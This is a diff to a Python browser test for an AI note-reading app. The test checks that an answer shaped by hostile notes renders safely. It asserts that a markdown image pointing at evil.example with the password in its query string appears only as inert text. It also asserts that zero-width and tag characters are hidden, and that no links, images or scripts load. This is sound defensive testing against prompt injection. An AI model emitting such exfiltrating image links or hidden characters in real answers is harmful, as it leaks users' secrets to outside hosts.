@@ -1,4 +1,4 @@
-"""Notes on the page: citations with their lines, vaults in the settings, and answers that a hostile note shaped."""
+"""Notes on the page: citations with their lines, vaults, and answers that a hostile note shaped."""
 
 from __future__ import annotations
 
@@ -99,9 +99,9 @@ async def test_an_answer_that_a_hostile_note_shaped_loads_nothing_and_hides_noth
     notes.mkdir()
     for row in rows:
         (notes / f"{row['id']}.md").write_text(row["note"])
-    read = [call("note_read", {"path": row["id"]}) for row in rows]
+    read = [[call("note_read", {"path": row["id"]})] for row in rows]
     obeyed = "\n".join(f"{row['note']} [^{number}]" for number, row in enumerate(rows, start=1))
-    async with make_studio(ScriptedModel([read, obeyed])) as studio:
+    async with make_studio(ScriptedModel([*read, obeyed])) as studio:
         VaultRegistry(studio.services.settings.home).add(notes)
         await enter(tab, studio)
         await send_message(tab, "Read the notes")
@@ -109,9 +109,8 @@ async def test_an_answer_that_a_hostile_note_shaped_loads_nothing_and_hides_noth
         for number in range(3):
             await tab.evaluate(f"{MARKERS}[{number}].click()")
             await tab.wait_for(f"{CITED}?.querySelector('.passage')")
-            shown = await tab.evaluate(SHOWN)
-            assert not set("\u200b\u200c\u2060\U000e0049") & set(shown)
-        assert "![x](https://evil.example/p.png?d=<the password>)" in shown
+            assert not set("\u200b\u200c\u2060\U000e0049") & set(await tab.evaluate(SHOWN))
+        assert "![x](https://evil.example/p.png?d=<the password>)" in await tab.evaluate(SHOWN)
         assert "Salt.\\u{200b}\\u{200c}\\u{2060}\\u{e0049}" in await tab.evaluate(f"{CITED}.textContent")
         assert await tab.evaluate("document.querySelector('#log :is(a, img, script, iframe)')") is None
         hosts = "performance.getEntriesByType('resource').map((entry) => new URL(entry.name).host)"
